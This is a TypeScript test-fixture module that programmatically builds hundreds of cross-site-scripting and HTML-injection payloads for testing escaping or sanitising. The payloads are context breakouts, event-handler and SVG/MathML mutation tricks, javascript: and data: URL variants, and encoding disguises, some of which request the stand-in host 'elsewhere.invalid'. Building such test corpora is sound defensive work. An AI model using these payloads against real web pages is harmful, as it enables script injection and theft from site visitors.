// Texts that would do harm if any of them became markup, a script, a style or an address. Made here of their parts: what breaks out of
// where a text stands, what then would act, and how either may be disguised. Each would call `ran` with its number, or ask for something
// of `ELSEWHERE`; hostile.test.ts first shows that they do, where nobody keeps them from it.

/** A few, for a page of its own. */
export const hostile = [
  '<img src=x onerror="alert(1)"><script>alert(2)</script>',
  '"><svg onload=alert(3)>',
  '{{alert(4)}}<a href="javascript:alert(5)">x</a><style>body{display:none}</style>',
]

/** Nothing of it may ever be asked for. */
export const ELSEWHERE = 'http://elsewhere.invalid'

/** Where a text stands when it breaks out: between the two halves. */
export const CONTEXTS = {
  text: ['<p>', '</p>'],
  double: ['<input value="', '">'],
  single: ["<input value='", "'>"],
  unquoted: ['<input value=', '>'],
  textarea: ['<textarea>', '</textarea>'],
  title: ['<title>', '</title>'],
  select: ['<select><option>', '</option></select>'],
  script: ['<script type="text/plain">const said = "', '"</script>'],
  json: ['<script type="application/json">{"said":"', '"}</script>'],
  style: ['<style>p { color: ', ' }</style>'],
  comment: ['<!-- ', ' -->'],
  noscript: ['<noscript>', '</noscript>'],
  template: ['<template>', '</template>'],
  svg: ['<svg><text>', '</text></svg>'],
  math: ['<math><mtext>', '</mtext></math>'],
  foreign: ['<svg><foreignObject><p>', '</p></foreignObject></svg>'],
  srcdoc: ['<iframe srcdoc="', '"></iframe>'],
  address: ['<a href="', '">x</a>'],
} as const satisfies Record<string, readonly [string, string]>

/** `disguised`: it acts only for a reader that undoes the disguise first. */
export type Payload = { readonly text: string; readonly context: keyof typeof CONTEXTS; readonly disguised: boolean }

const BREAKERS: Readonly<Record<Exclude<keyof typeof CONTEXTS, 'address'>, readonly string[]>> = {
  text: ['', '</p>', '<p/', '<b id=x>'],
  double: ['">', '"/>', '" a="">', '"\n>'],
  single: ["'>", "'/>", "' a=''>"],
  unquoted: ['>', ' a=b>', '/>', ' a=`>'],
  textarea: ['</textarea>', '</TEXTAREA\n>', '</textarea/x>'],
  title: ['</title>', '</tItLe >'],
  select: ['</select>', '</option></select>', '</select/>'],
  script: ['</script>', '</sCrIpT\t>', '"</script x>'],
  json: ['</script>', '"}</script>', '\\"}</script/>'],
  style: ['</style>', 'red}</STYLE >'],
  comment: ['-->', '--!>'],
  noscript: ['</noscript>', '</noscript/>'],
  template: ['</template>', '</template/>'],
  svg: ['</text></svg>', '<desc>', '</svg>'],
  math: ['</mtext></math>', '<mglyph><style><!--</style>', ''],
  foreign: ['</p>', '</foreignObject></svg>'],
  srcdoc: ['">', '&lt;p&gt;'],
}

/** What would act by itself, of number `n`. */
const ACTORS: readonly ((n: number) => string)[] = [
  (n) => `<script>ran(${n})</script>`,
  (n) => `<script src=${ELSEWHERE}/${n}.js></script>`,
  (n) => `<img src=x onerror=ran(${n})>`,
  (n) => `<img src=x onerror="top.ran(${n})">`,
  (n) => `<IMG/SRC=x/OnErRoR=ran(${n})//`,
  (n) => `<svg onload=ran(${n})>`,
  (n) => `<svg><script>ran(${n})</script></svg>`,
  (n) => `<svg><animate onbegin=ran(${n}) attributeName=x dur=1s>`,
  (n) => `<svg><image href=${ELSEWHERE}/${n}></svg>`,
  (n) => `<svg><use href="data:image/svg+xml,<svg id=x onload=ran(${n})></svg>#x"></svg>`,
  (n) => `<svg><style><img src=x onerror=ran(${n})></style></svg>`,
  (n) => `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=ran(${n})>`,
  (n) => `<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=ran(${n}) src>">`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=ran(${n})>">`,
  (n) => `<table><td background=${ELSEWHERE}/${n}>`,
  (n) => `<details open ontoggle=ran(${n})>x</details>`,
  (n) => `<input autofocus onfocus=ran(${n})>`,
  (n) => `<b tabindex=0 autofocus onfocus=ran(${n})>x</b>`,
  (n) => `<video src=x onerror=ran(${n})></video>`,
  (n) => `<audio><source src=x onerror=ran(${n})></audio>`,
  (n) => `<body onload=ran(${n})>`,
  (n) => `<iframe srcdoc="<script>parent.ran(${n})</script>"></iframe>`,
  (n) => `<iframe src="javascript:parent.ran(${n})"></iframe>`,
  (n) => `<iframe src=${ELSEWHERE}/${n}></iframe>`,
  (n) => `<object data=${ELSEWHERE}/${n}></object>`,
  (n) => `<embed src=${ELSEWHERE}/${n}>`,
  (n) => `<style>@import "${ELSEWHERE}/${n}";</style>`,
  (n) => `<style>*{background:url(${ELSEWHERE}/${n})}</style>`,
  (n) => `<p style="width:expression(ran(${n}));background:url(${ELSEWHERE}/${n})">x</p>`,
  (n) => `<link rel=stylesheet href=${ELSEWHERE}/${n}.css>`,
  (n) => `<link rel=preload as=image href=${ELSEWHERE}/${n}>`,
  (n) => `<link rel=import href="data:text/html,<script>ran(${n})</script>">`,
  (n) => `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/${n}">`,
  (n) => `<base href=${ELSEWHERE}/${n}/>`,
  (n) => `<form action=${ELSEWHERE}/${n}><button autofocus>x</button></form>`,
  (n) => `<button formaction="javascript:ran(${n})">x</button>`,
  (n) => `<img src='${ELSEWHERE}/${n}?`,
  (n) => `<a ping=${ELSEWHERE}/${n} href=# target='`,
  (n) => `<x onclick=ran(${n}) onpointerover=ran(${n})>x</x>`,
  (n) => `<p popover id=p onbeforetoggle=ran(${n})>x</p>`,
]

/** What acts from within the attribute or the script that the text stands in. */
const INNER: readonly (readonly [keyof typeof CONTEXTS, (n: number) => string])[] = [
  ['double', (n) => `" autofocus onfocus="ran(${n})`],
  ['double', (n) => `" type=image src=x onerror="ran(${n})`],
  ['single', (n) => `' autofocus onfocus='ran(${n})`],
  ['unquoted', (n) => `x autofocus onfocus=ran(${n})`],
  ['unquoted', (n) => `x\tonfocus\n=ran(${n})\fautofocus`],
  ['srcdoc', (n) => `&lt;script&gt;parent.ran(${n})&lt;/script&gt;`],
  ['template', (n) => `\${ran(${n})}</template><i>\`-ran(${n})-\``],
]

const SCHEMES: readonly ((n: number) => string)[] = [
  (n) => `javascript:ran(${n})`,
  (n) => `JaVaScRiPt:ran(${n})`,
  (n) => `java\tscript:ran(${n})`,
  (n) => `java\nscript:ran(${n})`,
  (n) => `  javascript:ran(${n})`,
  (n) => `\u0001javascript:ran(${n})`,
  (n) => `javascript&colon;ran(${n})`,
  (n) => `&#106;avascript:ran(${n})`,
  (n) => `javascript://%0aran(${n})`,
  (n) => `javascript:/*--></title></style></textarea>*/ran(${n})`,
  (n) => `data:text/html,<script>ran(${n})</script>`,
  (n) => `data:text/html;base64,${btoa(`<script>ran(${n})</script>`)}`,
  (n) => `vbscript:ran(${n})`,
  (n) => `blob:${ELSEWHERE}/${n}`,
  (n) => `//elsewhere.invalid/${n}`,
  (n) => `\\\\elsewhere.invalid\\${n}`,
  (n) => `${ELSEWHERE}/${n}`,
]

const units = (text: string, as: (unit: number) => string) =>
  [...text].map((one) => as(one.codePointAt(0) ?? 0)).join('')
const hex = (unit: number, width: number) => unit.toString(16).padStart(width, '0')
const only = (text: string, which: RegExp, as: (found: string) => string) => text.replace(which, as)

const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => units(text, (unit) => `&#${unit};`),
  (text) => units(text, (unit) => `&#x${hex(unit, 7)}`),
  (text) => only(text, /[<>"']/g, (one) => ({ '<': '&lt;', '>': '&gt;', '"': '&quot;' })[one] ?? '&apos;'),
  (text) =>
    only(text, /[<>"']/g, (one) => ({ '<': '&amp;lt;', '>': '&amp;gt;', '"': '&amp;quot;' })[one] ?? '&amp;#39;'),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => only(text, /[<>"']/g, (one) => `\\u${hex(one.charCodeAt(0), 4)}`),
  (text) => only(text, /[<>"']/g, (one) => `\\x${hex(one.charCodeAt(0), 2)}`),
  (text) => only(text, /[<>]/g, (one) => (one === '<' ? '+ADw-' : '+AD4-')),
  (text) => only(text, /[<>]/g, (one) => (one === '<' ? '\uff1c' : '\uff1e')),
  (text) => only(text, /[<>]/g, (one) => (one === '<' ? '\u2039' : '\u203a')),
  (text) => only(text, /</g, () => '<\u200b'),
  (text) => only(text, /</g, () => '%00<%00&#0;'),
  (text) => only(text, /</g, () => '\u00c0\u00bc'),
  (text) => `x\ufeff\u202e${text}\u202d`,
  (text) => `\u2066\u2067${[...text].reverse().join('')}`,
  (text) => `${text}\ufffe\uffff\u0085\u2028\u2029`,
  (text) => JSON.stringify(text),
  (text) => `{{constructor.constructor('${text}')()}}`,
  (text) => `]]>${text}<![CDATA[`,
  (text) => `<!--><!--${text}`,
  (text) => `\\"${text}\\'`,
]

export const payloads: readonly Payload[] = made()

function made(): Payload[] {
  const found: Payload[] = []
  const add = (context: keyof typeof CONTEXTS, text: (n: number) => string, disguised = false) =>
    found.push({ text: text(found.length), context, disguised })
  // Every way out with nine of what acts, going round, so that each of either comes up with many of the other.
  let at = 0
  const nine = () => Array.from({ length: 9 }, () => ACTORS[at++ % ACTORS.length] ?? String)
  for (const [context, breaker] of waysOut()) for (const actor of nine()) add(context, (n) => `${breaker}${actor(n)}`)
  for (const actor of ACTORS) add('text', actor)
  for (const [context, inner] of INNER) add(context, inner)
  for (const scheme of SCHEMES) {
    add('address', scheme)
    add('text', (n) => `<a href="${scheme(n).replaceAll('"', '&quot;')}">x</a>`)
    add('double', (n) => `"><svg><a xlink:href='${scheme(n).replaceAll("'", '')}'>x</a></svg>`)
  }
  for (const [index, disguise] of DISGUISES.entries())
    for (const more of [0, 7, 13])
      add('text', (n) => disguise((ACTORS[(index + more) % ACTORS.length] ?? String)(n)), true)
  return found
}

function waysOut(): [keyof typeof BREAKERS, string][] {
  const contexts = Object.keys(BREAKERS).filter((name): name is keyof typeof BREAKERS => name in BREAKERS)
  return contexts.flatMap((context) => BREAKERS[context].map((breaker): [typeof context, string] => [context, breaker]))
}
